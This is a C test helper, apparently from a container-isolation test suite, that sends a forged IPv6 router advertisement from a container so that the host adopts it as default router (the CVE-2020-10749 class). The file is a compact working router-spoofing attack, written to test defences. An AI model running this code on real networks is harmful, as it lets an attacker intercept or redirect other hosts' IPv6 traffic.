/*
 * t/ra-send.c: for t/673-attacks.t, what a container on the bridge with
 * CAP_NET_RAW can send: an IPv6 router advertisement to all nodes
 * (ff02::1) on IFACE, naming itself a default router for LIFETIME
 * seconds. A host whose bridge takes router advertisements (accept_ra, as
 * the kernel's default is) then routes its IPv6 through the container
 * (the CVE-2020-10749 class).
 *
 *   ra-send IFACE LIFETIME
 *
 * Waits (5 s at most) for IFACE's link-local address to leave its DAD,
 * as an advertisement must come from one. Exits 0 once sent.
 * Build: musl-gcc -static -o ra-send t/ra-send.c
 */
#include <arpa/inet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/icmp6.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

/* IFACE has a link-local address that is no longer tentative. */
static int link_local_ready(const char *iface)
{
	FILE *f = fopen("/proc/net/if_inet6", "r");
	char addr[64], name[IF_NAMESIZE + 1];
	unsigned idx, plen, scope, flags;
	int ready = 0;

	while (f && fscanf(f, "%63s %x %x %x %x %16s", addr, &idx, &plen, &scope, &flags,
			   name) == 6)
		if (!strcmp(name, iface) && scope == 0x20 && !(flags & 0x40))	/* IFA_F_TENTATIVE */
			ready = 1;
	if (f)
		fclose(f);
	return ready;
}

int main(int argc, char **argv)
{
	struct nd_router_advert ra = { 0 };
	struct sockaddr_in6 to = { .sin6_family = AF_INET6 };
	int fd, hops = 255;

	if (argc != 3) {
		fprintf(stderr, "usage: ra-send IFACE LIFETIME\n");
		return 2;
	}
	for (int i = 0; i < 100 && !link_local_ready(argv[1]); i++)
		usleep(50000);
	ra.nd_ra_type = ND_ROUTER_ADVERT;
	ra.nd_ra_curhoplimit = 64;
	ra.nd_ra_router_lifetime = htons((unsigned short)atoi(argv[2]));
	inet_pton(AF_INET6, "ff02::1", &to.sin6_addr);
	to.sin6_scope_id = if_nametoindex(argv[1]);
	fd = socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6);	/* the kernel sums it */
	if (fd < 0 || !to.sin6_scope_id ||
	    setsockopt(fd, IPPROTO_IPV6, IPV6_MULTICAST_HOPS, &hops, sizeof hops) ||
	    setsockopt(fd, IPPROTO_IPV6, IPV6_UNICAST_HOPS, &hops, sizeof hops)) {
		perror("ra-send: socket");
		return 1;
	}
	if (sendto(fd, &ra, sizeof ra, 0, (struct sockaddr *)&to, sizeof to) != sizeof ra) {
		perror("ra-send: sendto");
		return 1;
	}
	return 0;
}
